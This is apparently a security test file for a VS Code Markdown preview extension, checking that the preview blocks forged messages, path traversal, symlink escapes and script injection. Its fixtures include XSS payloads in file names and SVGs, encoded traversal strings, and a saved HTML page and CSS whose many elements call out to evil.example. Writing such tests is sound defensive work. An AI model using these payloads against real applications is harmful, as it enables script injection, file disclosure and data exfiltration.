import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { eventually, inPanel, inPreview, onDisk, outsideRequests, watchRequests } from '../host/driver.ts';
import { drawn, front, newsroom, openFile, tidy } from './window.ts';

/** What the functions that run in the preview see there. */
interface Picture {
  readonly naturalWidth: number;
  src: string;
  onload: () => void;
  onerror: () => void;
}
declare const document: {
  readonly title: string;
  readonly body: { readonly innerText: string; readonly innerHTML: string; append(...nodes: readonly object[]): void };
  readonly images: Iterable<Picture>;
  createElement(name: string): Picture;
  querySelector(selector: string): { click(): void; readonly innerText: string } | null;
  querySelectorAll(selector: string): Iterable<{ click(): void; readonly outerHTML: string }>;
};
declare const window: { taken?: unknown };
declare const parent: { postMessage(message: unknown, target: string): void };

const svg = (width: number, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${width}" height="30">${more}<rect width="9" height="9"/></svg>`;

/** Writes a file of the newsroom, or beside it. */
async function write(path: string, text: string): Promise<vscode.Uri> {
  const uri = vscode.Uri.joinPath(newsroom(), ...path.split('/'));
  await vscode.workspace.fs.writeFile(uri, new TextEncoder().encode(text));
  return uri;
}

async function preview(uri: vscode.Uri): Promise<void> {
  await eventually('a preview', async () => {
    await vscode.commands.executeCommand('copydesk.openPreview', uri);
    return vscode.window.tabGroups.all.length > 1;
  });
  await inPreview.waitFor('h1');
}

/** Nothing has run, and nothing was asked of another machine. */
async function assertNothingTaken(what: string): Promise<void> {
  assert.equal(await inPanel.evaluate(() => typeof window.taken), 'undefined', what);
  assert.equal(await inPreview.evaluate(() => typeof window.taken), 'undefined', what);
  const asked = (await outsideRequests()).filter((url) => !url.startsWith('https://open-vsx.org/'));
  assert.deepEqual(asked, [], what);
}

const widths = () => inPreview.evaluate(() => [...document.images].map(({ naturalWidth }) => naturalWidth));

describe('the preview, attacked through what lies around it', () => {
  before(watchRequests);
  afterEach(tidy);

  it('hears no message but the extension’s', async () => {
    const { document: text } = await openFile('乡村/信息.md', `${front}清泉镇。\n`);
    await preview(text.uri);
    const before = await inPreview.evaluate(() => document.body.innerHTML);
    await inPreview.evaluate(() => {
      const html = '<h1>伪造</h1><img src=x onerror="window.taken=1">';
      const block = { key: 'a', html, before: html, after: '', line: 0, lines: [0], findings: [] };
      const update = { type: 'update', number: 9, version: 9, base: 0, lines: 1, lang: 'zh', resource: 'x:/' };
      for (const message of [
        { ...update, around: block, blocks: [block], removed: 0, start: 0, deleted: 0, counts: {}, title: html },
        { type: 'panel', locked: true, remote: 'shown', click: 'click' },
        { type: 'scroll', line: 1e9 },
        { type: 'cursor', line: 1, scroll: true },
        { type: 'update', html: 'x'.repeat(5_000_000) },
        { type: '__proto__', __proto__: { type: 'panel', locked: true } },
        'x',
        null,
      ])
        parent.postMessage(message, '*');
    });
    await drawn();
    assert.equal(await inPreview.evaluate(() => document.body.innerHTML), before);
    assert.equal(
      await inPanel.evaluate(() => document.querySelector('#lock[aria-pressed="true"]') === null),
      true,
      'it is not locked',
    );
    await assertNothingTaken('messages');
  });

  it('gives no file outside the newsroom, whichever address a page asks for', async () => {
    await write('图片/里.svg', svg(42));
    await write('../outside.svg', svg(41));
    await write('../newsroom-other/outside.svg', svg(41));
    const { document: text } = await openFile('乡村/地址.md', `${front}清泉镇。\n\n![图](../图片/里.svg)\n`);
    await preview(text.uri);
    await eventually('the picture that may be shown', async () => (await widths()).includes(42));
    // No script runs in the page, so its pictures are asked for from the panel.
    const loaded = await inPanel.evaluate(async () => {
      const page = (document.querySelector('iframe') as unknown as { contentDocument: typeof document })
        .contentDocument;
      const [shown] = page.images;
      const folder = (shown?.src ?? '').replace(/[^/]*$/, '');
      const tails = [
        '../../outside.svg',
        '..%2f..%2foutside.svg',
        '..%5c..%5coutside.svg',
        '%2e%2e/%2e%2e/outside.svg',
        '%252e%252e/%252e%252e/outside.svg',
        '..%252f..%252foutside.svg',
        '../../newsroom-other/outside.svg',
        '%2e%2e%2f%2e%2e%2fnewsroom-other%2foutside.svg',
        '..;/..;/outside.svg',
        '.%00./.%00./outside.svg',
        '\uff0e\uff0e/\uff0e\uff0e/outside.svg',
        '..%c0%af..%c0%afoutside.svg',
      ];
      const tried = tails.map(
        (tail) =>
          new Promise<string>((resolve) => {
            const picture = page.createElement('img');
            picture.onload = () => resolve(`${tail} ${picture.naturalWidth}`);
            picture.onerror = () => resolve('');
            setTimeout(() => resolve(''), 4000);
            picture.src = folder + tail;
            page.body.append(picture);
          }),
      );
      return (await Promise.all(tried)).filter((name) => name !== '');
    });
    assert.deepEqual(loaded, []);
    await vscode.workspace.fs.delete(vscode.Uri.joinPath(newsroom(), '../outside.svg'));
  });

  it('takes names of files for text', async () => {
    const names = ['" onerror="window.taken=1" x=".svg', "'><img src=x onerror=window.taken=1>.svg", '行\n首.svg'];
    for (const name of names) await write(`图片/${name}`, svg(42));
    const pictures = names.map((name) => `![图](<../图片/${encodeURIComponent(name)}>)`).join('\n\n');
    const article = '乡村/"><img src=x onerror=window.taken=1>.md';
    const { document: text } = await openFile(article, `${front}清泉镇。\n\n${pictures}\n`);
    await preview(text.uri);
    // Where a file may be named so, its picture is shown; what is refused is refused as a whole.
    await eventually('a picture', async () => (await widths()).includes(42));
    await vscode.commands.executeCommand('copydesk.copyPlainText', text.uri);
    await assertNothingTaken('names');
  });

  it('shows drawings as pictures: their scripts, links and pictures of their own are dead', async () => {
    await write(
      '图片/活.svg',
      svg(
        42,
        '<script>window.taken=1;parent.taken=1;top.taken=1;fetch("https://evil.example/a")</script>' +
          '<image href="https://evil.example/b.png" width="9" height="9"/><image xlink:href="../../outside.svg" width="9" height="9"/>' +
          '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/c"/></foreignObject>' +
          '<style>@import url(https://evil.example/d.css); rect { fill: url(https://evil.example/e.svg#x) }</style>' +
          '<animate onbegin="window.taken=1" attributeName="x" dur="1s"/><a href="javascript:window.taken=1"><rect width="42" height="30"/></a>',
      ),
    );
    const { document: text } = await openFile('乡村/画.md', `${front}清泉镇。\n\n![图](../图片/活.svg)\n`);
    await preview(text.uri);
    await eventually('the drawing', async () => (await widths()).includes(42));
    await inPreview.click('img');
    await drawn();
    await assertNothingTaken('a drawing');
  });

  it('stays usable with pictures that are too large to draw, and with text without end', async () => {
    await write('图片/大.svg', svg(4_000_000_000, '<g><use href="#a"/><g id="a"><use href="#a"/></g></g>'));
    const huge = `![图](../图片/大.svg)\n\n![](data:image/png;base64,${'A'.repeat(200_000)})\n\n`;
    const nested = `${'> '.repeat(90)}深\n\n${'- '.repeat(40)}深\n\n${'*'.repeat(5000)}\n\n${'['.repeat(5000)}\n`;
    const { document: text } = await openFile('乡村/大.md', `${front}清泉镇。\n\n${huge}${nested}`);
    await preview(text.uri);
    const edit = new vscode.WorkspaceEdit();
    edit.insert(text.uri, new vscode.Position(text.lineCount, 0), '\n末段还在。\n');
    assert.ok(await vscode.workspace.applyEdit(edit));
    await eventually('the last paragraph', () =>
      inPreview.evaluate(() => document.body.innerText.includes('末段还在。')),
    );
  });

  it('lets not even its own script start a worker, a connection or a window', async () => {
    const { document: text } = await openFile('乡村/工人.md', `${front}清泉镇。\n`);
    await preview(text.uri);
    const done = await inPanel.evaluate(async () => {
      const world = globalThis as unknown as Record<string, unknown> & {
        fetch(url: string): Promise<unknown>;
        navigator: {
          serviceWorker?: { register(url: string): Promise<unknown> };
          sendBeacon(url: string): boolean;
        };
        open(url: string): unknown;
      };
      const Made = (name: string) => world[name] as new (...args: readonly unknown[]) => { onopen?: () => void };
      const attempts: Readonly<Record<string, () => unknown>> = {
        fetch: () => world.fetch('https://evil.example/'),
        // Where there is none, it is as good as refused.
        serviceWorker: () => world.navigator.serviceWorker?.register('https://evil.example/w.js') ?? Promise.reject(),
        socket: () =>
          new Promise((resolve, reject) => {
            const socket = new (Made('WebSocket'))('wss://evil.example/') as unknown as Record<string, () => void>;
            socket.onopen = () => resolve(undefined);
            socket.onerror = () => reject();
          }),
        window: () => (world.open('https://evil.example/') === null ? Promise.reject() : true),
      };
      world.navigator.sendBeacon('https://evil.example/');
      const through: string[] = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          through.push(name);
        } catch {
          // As it should be.
        }
      }
      return through;
    });
    assert.deepEqual(done, []);
    await assertNothingTaken('workers');
  });

  it('opens files of the newsroom from links, and nothing else', async () => {
    await write('../outside.md', '# 外\n');
    await write('乡村/里.md', '# 里\n');
    const links = [
      '../../outside.md',
      '..%2f..%2foutside.md',
      '%2e%2e/%2e%2e/outside.md',
      '/../outside.md',
      '..\\..\\outside.md',
      vscode.Uri.joinPath(newsroom(), '../outside.md').path,
      vscode.Uri.joinPath(newsroom(), '../outside.md').toString(),
      'untitled:outside.md',
      'vscode-userdata:/User/settings.json',
      '//evil.example/outside.md',
    ];
    const paragraphs = links.map((link) => `[外](<${link}>)`).join('\n\n');
    const { document: text } = await openFile('乡村/链接.md', `${front}${paragraphs}\n\n[里](里.md)\n`);
    await preview(text.uri);
    await inPreview.evaluate(() => {
      for (const link of document.querySelectorAll('a')) link.click();
    });
    const tabs = () => vscode.window.tabGroups.all.flatMap((group) => group.tabs.map(({ label }) => label));
    await eventually('the file of the newsroom', () => tabs().includes('里.md'));
    assert.deepEqual(
      tabs().filter((label) => /outside|settings/.test(label)),
      [],
    );
    await assertNothingTaken('links');
  });

  it('dresses in a saved page whose every trick is gone', async () => {
    const house = vscode.Uri.joinPath(newsroom(), 'copydesk.yml');
    const kept = await vscode.workspace.fs.readFile(house);
    await write('site/里.svg', svg(42));
    await write(
      'site/attack.css',
      '@import url(https://evil.example/1.css);@font-face{font-family:x;src:url(https://evil.example/2.woff)}h1[class^="t"]{background:url(https://evil.example/3?t)}',
    );
    await write('site/attack.html', savedPage);
    const page = 'page: {html: site/attack.html, slots: {title: h1.title, body: .article}}\n';
    try {
      await vscode.workspace.fs.writeFile(house, new TextEncoder().encode(new TextDecoder().decode(kept) + page));
      const { document: text } = await openFile('乡村/自有.md', `${front}清泉镇。\n`);
      await preview(text.uri);
      if (!vscode.workspace.isTrusted) {
        assert.doesNotMatch(await inPreview.evaluate(() => document.body.innerHTML), /本站/);
        return;
      }
      // A page that is dressed anew gets a new frame.
      await eventually('the saved page', () => inPreview.evaluate(() => document.querySelector('.bar') !== null));
      await eventually('the page’s own picture', async () => (await widths()).includes(42));
      const left = await inPreview.evaluate(() =>
        [
          ...document.querySelectorAll(
            'script, iframe, object, embed, base, meta[http-equiv=refresh], math, svg :is(script, foreignObject, animate, set),  template, video, audio, frame, ' +
              '[onclick], [onload], [onerror], [style], [srcset], [ping], [action], [formaction], [background], ' +
              '[srcdoc], [data-findings]:not(copydesk-finding), [data-copydesk-slot], :not(meta)[name], link:not([rel=stylesheet]), [href^=javascript], [href^=command]',
          ),
        ].map(({ outerHTML }) => outerHTML),
      );
      assert.deepEqual(left, []);
      await inPreview.evaluate(() => {
        for (const element of document.querySelectorAll('a, button, input, b')) element.click();
      });
      await drawn();
      await assertNothingTaken('a saved page');
    } finally {
      await vscode.workspace.fs.writeFile(house, kept);
    }
  });

  it('shows no file to which a symbolic link leads out of the newsroom', async () => {
    // Without a server there are no links: a workspace is what its provider says.
    if (newsroom().scheme === 'vscode-test-web') return;
    await onDisk.write('../outside.svg', svg(41));
    await onDisk.link('图片/出去.svg', '../../outside.svg');
    await onDisk.write('图片/里.svg', svg(42));
    const { document: text } = await openFile(
      '乡村/软链.md',
      `${front}清泉镇。\n\n![图](../图片/里.svg)\n\n![图](../图片/出去.svg)\n`,
    );
    await eventually('a finding', () =>
      vscode.languages
        .getDiagnostics(text.uri)
        .some(({ code, message }) => JSON.stringify(code).includes('missing-image') && message.includes('出去.svg')),
    );
    await preview(text.uri);
    await eventually('the picture that may be shown', async () => (await widths()).includes(42));
    assert.ok(!(await widths()).includes(41));
  });
});

/** A page with what attackers of saved pages could leave in one. */
const savedPage = `<!DOCTYPE html><html onclick="window.taken=1" manifest="https://evil.example/m"><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url">
<link rel="stylesheet" href="attack.css"><link rel="stylesheet" href="https://evil.example/4.css">
<link rel="preload" as="image" href="https://evil.example/5.png"><link rel="prefetch" href="https://evil.example/6">
<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example"><link rel="icon" href="https://evil.example/7.ico">
<style>@import "https://evil.example/8.css";@namespace url(https://evil.example/9);
@font-face{font-family:y;src:url("https://evil.example/10.woff") format("woff")}
h1[class^="t"]{background:url(https://evil.example/11?t)} .bar{background:\\75rl(https://evil.example/12)}
.bar:before{content:url(//evil.example/13)} .article{background:image-set("https://evil.example/14" 1x);cursor:url(https://evil.example/15),auto}
:root{--x:url(https://evil.example/16)} h1{background:var(--x)} input[value^="q"]{background:url(https://evil.example/17?q)}</style>
<script>window.taken=1</script><script src="https://evil.example/18.js"></script></head>
<body onload="window.taken=1" background="https://evil.example/19.png"><div class="bar" style="background:url(https://evil.example/20)" data-findings="0" data-line="3">本站
<img src="里.svg" srcset="https://evil.example/21.png 2x" onerror="window.taken=1" data-findings="1"><svg onload="window.taken=1"><script>window.taken=1</script></svg>
<a href="javascript:window.taken=1" ping="https://evil.example/22">a</a> <a href="command:workbench.action.quit" data-href="command:x">b</a> <b data-findings="0" data-copydesk-slot="body">c</b></div>
<iframe srcdoc="<script>parent.parent.taken=1</script>"></iframe><object data="https://evil.example/23"></object><embed src="https://evil.example/24">
<video poster="https://evil.example/25" src="https://evil.example/26" autoplay></video><math><mtext><img src=x onerror=window.taken=1></mtext></math>
<form name="body" action="https://evil.example/27"><input name="getElementById" type="image" src="https://evil.example/28"><input value="q"><button formaction="https://evil.example/29">d</button></form>
<template><script>window.taken=1</script></template>
<table background="https://evil.example/30"><tr><td>e</td></tr></table><h1 class="title">题</h1><div class="article">文</div>
<noscript><p title="</noscript><img src=x onerror=window.taken=1>"></noscript></body></html>
`;
